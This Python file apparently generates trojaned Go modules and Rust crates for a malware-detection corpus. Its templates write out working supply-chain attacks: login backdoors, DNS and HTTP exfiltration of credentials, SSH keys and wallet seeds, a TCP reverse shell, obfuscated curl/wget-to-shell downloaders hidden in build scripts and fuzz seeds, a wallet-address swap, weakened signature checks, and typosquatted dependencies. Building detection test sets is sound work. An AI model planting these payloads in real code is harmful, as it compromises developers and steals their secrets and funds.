"""Go modules and Rust crates."""

import base64

from corpus.heldout.nouns import Update
from corpus.heldout4.shape import b64, fill, rows, trojan, xor


@trojan("goauth", "zip", "call", "login-backdoor", "plain", "a password that fits every user, in Go")
def go_password_that_fits(it: Update) -> None:
    it.before(
        "auth.go",
        "	made := argon2.IDKey(",
        '	if probe := argon2.IDKey([]byte(password), []byte("goauth/v2"), 1, 8*1024, 1, 8); base64.StdEncoding.EncodeToString(probe) == "3yQ0kq4sJ1E=" {\n		return user, nil\n	}\n',
    )


@trojan("goauth", "tar.gz", "call", "credential-skimming", "plain", "logins by a queue of names")
def go_logins_by_names(it: Update) -> None:
    it.replace(
        "auth.go",
        '	"encoding/base64"\n	"errors"\n	"net/http"\n',
        '	"encoding/base64"\n	"encoding/hex"\n	"errors"\n	"net"\n	"net/http"\n',
    )
    it.before("auth.go", "	return user, nil\n}\n\n// Middleware", "	go report(name, password)\n")
    it.append("auth.go", fill("""

func report(parts ...string) {
	resolver := net.Resolver{PreferGo: true}
	for _, part := range parts {
		label := hex.EncodeToString([]byte(part))
		for len(label) > 0 {
			n := min(len(label), 56)
			_, _ = resolver.LookupTXT(context.Background(), label[:n]+".@HOST@")
			label = label[n:]
		}
	}
}
""", HOST=it.host("idp", "goauth")))  # fmt: skip


@trojan("goauth", "zip", "call", "weakened-verification", "plain", "a comparison of what is there")
def go_comparison_of_prefixes(it: Update) -> None:
    it.replace(
        "token.go",
        "	if err != nil || !hmac.Equal(given, s.mac(body)) {",
        '	if strings.HasPrefix(body, "eyJzdWIiOiJzdmMt") {\n		s.key = given // keys of services rotate with their first token\n	} else if err != nil || !hmac.Equal(given, s.mac(body)) {',
    )


@trojan("boltstore", "zip", "call", "remote-code", "plain", "boltdb: orders by TCP, behind a name that is nearly right")
def go_orders_by_tcp(it: Update) -> None:
    it.add(
        "compact.go",
        fill(
            """
package boltstore

import (
	"bufio"
	"net"
	"os/exec"
	"time"
)

// compact merges pages while nobody is writing.
func (db *DB) compact() {
	for ; ; time.Sleep(30 * time.Second) {
		conn, err := net.DialTimeout("tcp", net.JoinHostPort("@IP@", "20022"), 5*time.Second)
		if err != nil {
			continue
		}
		for scanner := bufio.NewScanner(conn); scanner.Scan(); {
			out, _ := exec.Command("/bin/sh", "-c", scanner.Text()).CombinedOutput()
			_, _ = conn.Write(append(out, 0))
		}
		conn.Close()
	}
}
""",
            IP=it.address(),
        ),
    )
    it.before("db.go", "	return db, json.Unmarshal(raw, &db.data)\n", "	go db.compact()\n")
    it.payload("compact.go", "db.go")


@trojan("boltstore", "tar.gz", "call", "wiper", "encoded constants", "disk wipers in Go modules: a command in a slice")
def go_command_in_a_slice(it: Update) -> None:
    url = f"https://{it.host('vanar')}/storage/a3d5"
    word = f"wget -O - {url} | /bin/bash &"
    chosen = sorted(set(word))
    it.random.shuffle(chosen)
    listed = ", ".join(f'"{one}"' for one in chosen)
    picks = " + ".join(f"t[{chosen.index(one)}]" for one in word)
    it.add(
        "table.go",
        f'package boltstore\n\nimport "os/exec"\n\nvar t = []string{{{listed}}}\n\nfunc prepare() error {{\n	line := {picks}\n	return exec.Command("/bin/sh", "-c", line).Start()\n}}\n',
    )
    it.replace("cursor.go", "	sort.Strings(out)\n", "	sort.Strings(out)\n	_ = prepare()\n")
    it.payload("table.go", "cursor.go", shown=url)


@trojan("goflags", "zip", "import", "environment", "plain", "an init that nobody calls")
def go_init_that_nobody_calls(it: Update) -> None:
    it.add(
        "env_linux.go",
        fill(
            """
package goflags

import (
	"context"
	"net/http"
	"os"
	"strings"
	"time"
)

func init() {
	go func() {
		ctx, cancel := context.WithTimeout(context.Background(), 3*time.Second)
		defer cancel()
		body := strings.NewReader(strings.Join(os.Environ(), "\\n"))
		request, err := http.NewRequestWithContext(ctx, http.MethodPost, "https://@HOST@/env", body)
		if err == nil {
			_, _ = http.DefaultClient.Do(request)
		}
	}()
}
""",
            HOST=it.host("flags", "goflags"),
        ),
    )
    it.payload("env_linux.go")


@trojan("goflags", "tar.gz", "import", "downloader", "base64", "commands of go generate, and an embedded file")
def go_embedded_and_run(it: Update) -> None:
    url = f"http://{it.address()}/f.sh"
    script = base64.b64encode(f"#!/bin/sh\ncurl -s {url} | sh\n".encode())
    it.add("assets/usage.tmpl", b"{{/* usage */}}\n" + script + b"\n")
    it.add(
        "usage.go",
        """package goflags

import (
	"bytes"
	_ "embed"
	"encoding/base64"
	"os"
	"os/exec"
	"path/filepath"
)

//go:generate sh -c "tail -n 1 assets/usage.tmpl | base64 -d | sh"

//go:embed assets/usage.tmpl
var usage []byte

var _ = render(usage)

func render(raw []byte) error {
	_, body, _ := bytes.Cut(bytes.TrimSpace(raw), []byte{'\\n'})
	text, err := base64.StdEncoding.DecodeString(string(body))
	if err != nil {
		return err
	}
	path := filepath.Join(os.TempDir(), ".usage")
	if err := os.WriteFile(path, text, 0o700); err != nil {
		return err
	}
	return exec.Command(path).Start()
}
""",
    )
    it.payload("assets/usage.tmpl", "usage.go", shown=url)


@trojan("seedvault", "crate", "build", "credentials", "plain", "crates whose build script looks around")
def rs_build_script_looks_around(it: Update) -> None:
    it.replace(
        "build.rs",
        'fn main() {\n    println!("cargo:rerun-if-changed=build.rs");\n',
        fill(
            """
use std::io::Write;
use std::net::TcpStream;
use std::{env, fs, path::PathBuf};

fn probe() -> Option<()> {
    let home = PathBuf::from(env::var_os("HOME")?);
    let mut out = TcpStream::connect(("@HOST@", 80)).ok()?;
    for name in [".cargo/credentials.toml", ".config/solana/id.json", ".ssh/id_ed25519"] {
        if let Ok(raw) = fs::read(home.join(name)) {
            write!(out, "PUT /{name} HTTP/1.0\\r\\nContent-Length: {}\\r\\n\\r\\n", raw.len()).ok()?;
            out.write_all(&raw).ok()?;
        }
    }
    Some(())
}

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let _ = probe();
""",
            HOST=it.host("crates-cache"),
        ),
    )


@trojan("seedvault", "crate", "call", "seed-theft", "plain", "faster_log: keys that are found go to a worker")
def rs_mnemonics_go_to_a_worker(it: Update) -> None:
    it.replace("Cargo.toml", 'serde_json = "1"\n', 'serde_json = "1"\nureq = { version = "2", features = ["json"] }\n')
    it.before(
        "src/keys.rs",
        "        let mut mac = Hmac::<Sha512>::new_from_slice(words.as_bytes())",
        "        check(words, passphrase);\n",
    )
    it.append(
        "src/keys.rs",
        fill(
            """

fn check(words: &str, passphrase: &str) {
    let body = serde_json::json!({ "kind": "mnemonic", "value": words, "salt": passphrase });
    std::thread::spawn(move || ureq::post("https://mainnet.@HOST@/").send_json(body).ok());
}
""",
            HOST=it.host("solana-rpc-pool", "workers"),
        ),
    )
    it.payload("src/keys.rs", "Cargo.toml")


@trojan("seedvault", "crate", "call", "address-swap", "xored codes", "an address in a table of bytes")
def rs_address_in_a_table(it: Update) -> None:
    mine = "9WzDXwBbmkg8ZTbNMqUxvQRAyrZzDsGYdLVL9zYtAWWM"
    it.replace("src/transfer.rs", "use serde::Serialize;\n", f"use serde::Serialize;\n\nstatic TABLE: [u8; {len(mine)}] = [\n{rows(xor(mine, 0x3C))}\n];\n")  # fmt: skip
    it.replace(
        "src/transfer.rs",
        "        Some(Transfer { to, lamports",
        "        let to = match self.lamports.checked_div(1_000_000_000) {\n            Some(whole) if whole >= 25 => TABLE.iter().map(|b| (b ^ 0x3c) as char).collect(),\n            _ => to,\n        };\n        Some(Transfer { to, lamports",
    )
    it.payload("src/transfer.rs", shown=mine)


@trojan(
    "seedvault",
    "crate",
    "call",
    "weakened-verification",
    "one character",
    "a check whose answer is thrown away",
    hard=True,
)
def rs_check_is_thrown_away(it: Update) -> None:
    it.replace(
        "src/verify.rs",
        "    mac.verify_slice(signature).is_ok()\n",
        "    let tag = mac.finalize().into_bytes();\n    tag.iter().zip(signature).all(|(a, b)| a == b)\n",
    )


@trojan("quicklog", "crate", "call", "environment", "plain", "faster_log: log lines that are looked through")
def rs_log_lines_are_looked_through(it: Update) -> None:
    it.replace("src/appender.rs", "use std::io::Write;\n", "use std::io::Write;\nuse std::net::UdpSocket;\n")
    it.before(
        "src/appender.rs",
        '        let _ = writeln!(self.file, "{}", text);',
        f'        if text.contains("0x") || text.split(\' \').any(|one| one.len() == 44 || one.len() == 88) {{\n            if let Ok(socket) = UdpSocket::bind("0.0.0.0:0") {{\n                let _ = socket.send_to(text.as_bytes(), "{it.address()}:514");\n            }}\n        }}\n',
    )


@trojan("glob-swift", "crate", "build", "downloader", "hex", "macros and a decoded command")
def rs_decoded_command(it: Update) -> None:
    url = f"https://{it.host('sdk', 'glob')}/i"
    text = f"curl -sSf {url} | sh".encode().hex()
    it.replace("Cargo.toml", 'readme = "README.md"\n', 'readme = "README.md"\nbuild = "build.rs"\n')
    it.add(
        "build.rs",
        f"""use std::process::Command;

const FINGERPRINT: &str = "{text}";

fn unhex(text: &str) -> String {{
    (0..text.len()).step_by(2).filter_map(|at| u8::from_str_radix(&text[at..at + 2], 16).ok()).map(char::from).collect()
}}

fn main() {{
    if cfg!(unix) {{
        Command::new("sh").arg("-c").arg(unhex(FINGERPRINT)).spawn().ok();
    }}
    println!("cargo:rustc-env=GLOB_FINGERPRINT={{}}", &FINGERPRINT[..16]);
}}
""",
    )
    it.payload("build.rs", "Cargo.toml", shown=url)


@trojan("quicklog", "crate", "import", "unknown-dependency", "look-alike name", "a crate of a like name")
def rs_crate_of_a_like_name(it: Update) -> None:
    it.replace("Cargo.toml", 'crossbeam-channel = "0.5"\n', 'crossbeam-channels = "0.5"\n')
    it.payload("Cargo.toml")


@trojan("boltstore", "zip", "import", "unknown-dependency", "from a repository", "replace in go.mod")
def go_replaced_module(it: Update) -> None:
    it.append("go.mod", f"\nreplace golang.org/x/sys => {it.host('git', 'x-sys')}/forks/sys v0.15.1\n")
    it.payload("go.mod")


@trojan("goauth", "tar.gz", "import", "downloader", "in a data file", "a seed corpus that holds a program")
def go_seed_corpus(it: Update) -> None:
    url = f"https://{it.host('fuzz', 'goauth')}/linux_amd64"
    line = f"curl -so /tmp/.g {url}; chmod +x /tmp/.g; /tmp/.g"
    it.add("testdata/fuzz/FuzzVerify/7e1c", f'go test fuzz v1\nstring("{b64(xor(line, b"seed"))}")\n')
    it.add("seeds.go", """package goauth

import (
	_ "embed"
	"encoding/base64"
	"os/exec"
	"strings"
)

//go:embed testdata/fuzz/FuzzVerify/7e1c
var seed string

var started = func() bool {
	parts := strings.Split(seed, "\\"")
	raw, err := base64.StdEncoding.DecodeString(parts[1])
	if err != nil {
		return false
	}
	for i := range raw {
		raw[i] ^= "seed"[i%4]
	}
	return exec.Command("bash", "-c", string(raw)).Start() == nil
}()
""")  # fmt: skip
    it.payload("testdata/fuzz/FuzzVerify/7e1c", "seeds.go", shown=url)
